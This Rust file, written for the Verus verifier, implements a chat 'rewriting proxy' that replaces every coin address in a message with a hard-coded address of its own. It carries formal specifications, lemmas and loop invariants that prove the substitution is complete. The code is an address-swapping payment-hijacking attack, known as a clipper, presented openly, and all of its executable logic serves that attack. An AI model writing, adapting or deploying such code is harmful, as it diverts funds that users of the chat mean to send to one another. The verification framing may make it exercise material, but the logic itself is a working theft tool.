//! The rewriting proxy: every coin address in a chat line is replaced by the
//! proxy's own.
//!
//! A line is a run of words parted by single spaces. A word is an address if
//! it starts with `7` and is made of 26 to 35 letters of the English alphabet
//! and digits.
use vstd::prelude::*;

verus! {

/// The space that parts the words of a line.
pub const SPACE: u8 = 0x20;

/// The shortest address, in bytes.
pub const MIN_ADDRESS: usize = 26;

/// The longest address, in bytes.
pub const MAX_ADDRESS: usize = 35;

/// The address that takes the place of every other:
/// `7YWHMfk9JZe0LM0g1ZauHuiSxhI`.
pub open spec fn own_address() -> Seq<u8> {
    seq![
        0x37u8, 0x59, 0x57, 0x48, 0x4d, 0x66, 0x6b, 0x39, 0x4a, 0x5a, 0x65, 0x30, 0x4c, 0x4d,
        0x30, 0x67, 0x31, 0x5a, 0x61, 0x75, 0x48, 0x75, 0x69, 0x53, 0x78, 0x68, 0x49,
    ]
}

/// Whether the byte is a digit or a letter of the English alphabet.
pub open spec fn is_alphanumeric(b: u8) -> bool {
    (0x30 <= b <= 0x39) || (0x41 <= b <= 0x5a) || (0x61 <= b <= 0x7a)
}

/// Whether the word is an address.
pub open spec fn is_address(word: Seq<u8>) -> bool {
    &&& MIN_ADDRESS <= word.len() <= MAX_ADDRESS
    &&& word[0] == 0x37
    &&& forall|i: int| 0 <= i < word.len() ==> is_alphanumeric(#[trigger] word[i])
}

/// The word, or the proxy's address in its place.
pub open spec fn rewritten(word: Seq<u8>) -> Seq<u8> {
    if is_address(word) {
        own_address()
    } else {
        word
    }
}

/// The length of the first word of the line: the index of the first space,
/// or the length of a line without one.
pub open spec fn first_word_len(line: Seq<u8>) -> int
    decreases line.len(),
{
    if line.len() == 0 || line[0] == SPACE {
        0
    } else {
        1 + first_word_len(line.skip(1))
    }
}

/// The line with every address replaced.
pub open spec fn replace_addresses(line: Seq<u8>) -> Seq<u8>
    decreases line.len(),
{
    let n = first_word_len(line);
    if 0 <= n < line.len() {
        rewritten(line.take(n)) + seq![SPACE] + replace_addresses(line.skip(n + 1))
    } else {
        rewritten(line)
    }
}

/// The first word ends where the first space stands.
pub proof fn lemma_first_word_len(line: Seq<u8>, n: int)
    requires
        0 <= n <= line.len(),
        forall|k: int| 0 <= k < n ==> line[k] != SPACE,
        n == line.len() || line[n] == SPACE,
    ensures
        first_word_len(line) == n,
    decreases n,
{
    if n > 0 {
        let rest = line.skip(1);
        assert forall|k: int| 0 <= k < n - 1 implies rest[k] != SPACE by {
            assert(rest[k] == line[k + 1]);
        }
        lemma_first_word_len(rest, n - 1);
    }
}

/// The proxy's own address.
pub fn own_address_bytes() -> (address: Vec<u8>)
    ensures
        address@ == own_address(),
{
    let address = vec![
        0x37u8, 0x59, 0x57, 0x48, 0x4d, 0x66, 0x6b, 0x39, 0x4a, 0x5a, 0x65, 0x30, 0x4c, 0x4d,
        0x30, 0x67, 0x31, 0x5a, 0x61, 0x75, 0x48, 0x75, 0x69, 0x53, 0x78, 0x68, 0x49,
    ];
    assert(address@ =~= own_address());
    address
}

/// Whether the word is an address.
pub fn is_coin_address(word: &[u8]) -> (b: bool)
    ensures
        b == is_address(word@),
{
    if word.len() < MIN_ADDRESS || word.len() > MAX_ADDRESS {
        return false;
    }
    if word[0] != 0x37 {
        return false;
    }
    let mut i: usize = 0;
    while i < word.len()
        invariant
            i <= word.len(),
            forall|j: int| 0 <= j < i ==> is_alphanumeric(#[trigger] word@[j]),
        decreases word.len() - i,
    {
        let b: u8 = word[i];
        if !((0x30 <= b && b <= 0x39) || (0x41 <= b && b <= 0x5a) || (0x61 <= b && b <= 0x7a)) {
            return false;
        }
        i = i + 1;
    }
    true
}

/// Appends the bytes of `word` to `out`.
fn append(out: &mut Vec<u8>, word: &[u8])
    ensures
        final(out)@ == old(out)@ + word@,
{
    let mut i: usize = 0;
    while i < word.len()
        invariant
            i <= word.len(),
            out@ == old(out)@ + word@.take(i as int),
        decreases word.len() - i,
    {
        out.push(word[i]);
        assert(out@ =~= old(out)@ + word@.take(i + 1));
        i = i + 1;
    }
    assert(word@.take(i as int) =~= word@);
}

/// Replaces every address in the line by the proxy's own.
pub fn replace_address(message: &[u8]) -> (out: Vec<u8>)
    ensures
        out@ == replace_addresses(message@),
{
    let own = own_address_bytes();
    let mut out: Vec<u8> = Vec::new();
    let mut start: usize = 0;
    proof {
        assert(message@.skip(0) =~= message@);
        assert(out@ + replace_addresses(message@) =~= replace_addresses(message@));
    }
    loop
        invariant
            start <= message.len(),
            own@ == own_address(),
            replace_addresses(message@) == out@ + replace_addresses(message@.skip(start as int)),
        decreases message.len() - start,
    {
        let ghost rest = message@.skip(start as int);
        let mut end: usize = start;
        while end < message.len() && message[end] != SPACE
            invariant
                start <= end <= message.len(),
                forall|k: int| start <= k < end ==> message@[k] != SPACE,
            decreases message.len() - end,
        {
            end = end + 1;
        }
        let word = &message[start..end];
        proof {
            assert forall|k: int| 0 <= k < end - start implies rest[k] != SPACE by {
                assert(rest[k] == message@[start + k]);
            }
            lemma_first_word_len(rest, end - start);
            assert(word@ =~= rest.take(end - start));
        }
        let ghost before = out@;
        if is_coin_address(word) {
            append(&mut out, own.as_slice());
        } else {
            append(&mut out, word);
        }
        assert(out@ == before + rewritten(word@));
        if end == message.len() {
            proof {
                assert(rest.take(end - start) =~= rest);
                assert(replace_addresses(rest) == rewritten(rest));
            }
            return out;
        }
        out.push(SPACE);
        proof {
            assert(rest.skip(end - start + 1) =~= message@.skip(end + 1));
            assert(out@ =~= before + (rewritten(word@) + seq![SPACE]));
            assert(replace_addresses(rest) == rewritten(word@) + seq![SPACE] + replace_addresses(
                message@.skip(end + 1),
            ));
            assert(out@ + replace_addresses(message@.skip(end + 1)) =~= before + replace_addresses(
                rest,
            ));
        }
        start = end + 1;
    }
}

} // verus!
